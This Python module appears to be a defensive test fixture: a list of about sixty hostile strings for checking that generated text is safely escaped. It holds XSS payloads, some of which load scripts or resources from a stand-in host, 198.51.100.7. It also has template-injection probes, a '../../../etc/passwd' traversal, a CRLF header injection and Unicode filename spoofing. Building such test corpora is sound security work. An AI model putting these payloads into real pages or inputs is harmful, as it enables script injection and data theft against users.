"""Sixty texts with which a model would leave the place where its words stand."""

_RUN = "window.struck=1"  # what a script would do; and all that loads asks for this address:
_AWAY = "http://198.51.100.7/x"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<script src='{_AWAY}'></script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{_AWAY}'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><image href='{_AWAY}'/></svg>",
    f"<math><mtext></mtext><style><img src=x onerror={_RUN}></style></math>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{_AWAY}'></object>",
    f"<embed src='{_AWAY}'>",
    f"<video src='{_AWAY}' onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<a href='{_AWAY}' ping='{_AWAY}'>click</a>",
    f"<base href='{_AWAY}'>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<link rel=stylesheet href='{_AWAY}'>",
    f"<link rel=prefetch href='{_AWAY}'>",
    f"<style>@import '{_AWAY}'; body {{ display: none }}</style>",
    f"<form action='{_AWAY}'><button autofocus>ok</button></form>",
    f"<button formaction='javascript:{_RUN}'>ok</button>",
    f"<div hx-get='{_AWAY}' hx-trigger=load></div>",
    f"<div data-hx-get='/run?id=first' data-hx-trigger=load hx-on::load='{_RUN}'></div>",
    f"<div hx-vals='js:{{a: {_RUN}}}' hx-get='/' hx-trigger=load></div>",
    f"<p style='background: url({_AWAY})'>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<xss id=x tabindex=1 onfocus={_RUN}></xss>",
    f"<dialog open><script>{_RUN}</script></dialog>",
    "</pre></details></main></body></html><h1>the end</h1>",
    "<!-- <pre>",
    "<![CDATA[ x ]]>",
    "<plaintext>",
    "<textarea><title><xmp>",
)
QUOTES = (
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"`onclick={_RUN}`",
    f"javascript:{_RUN}",
    "data:text/html,<script>parent.struck=1</script>",
    "&lt;script&gt;&#60;b&#62;&amp;",
    f'\\"><img src=x onerror={_RUN}>',
)
TEMPLATES = (
    "{{ 7*7 }}{% for x in ().__class__ %}",
    "${7*7}#{7*7}",
    "%3Cscript%3Ewindow.struck=1%3C/script%3E",
    "../../../etc/passwd",
    f"\r\nLocation: {_AWAY}\r\n\r\n<script>{_RUN}</script>",
)
HIDING = (
    "gpj.\u202eexe",
    "\u2066a\u2069\u200b\u00ad\ufeff",
    "a\0b\x1b[31mred\x07\x9b",
    "\ud83d half \udcff",
)
WORDS = (*MARKUP, *QUOTES, *TEMPLATES, *HIDING)
AWAY = "198.51.100.7"
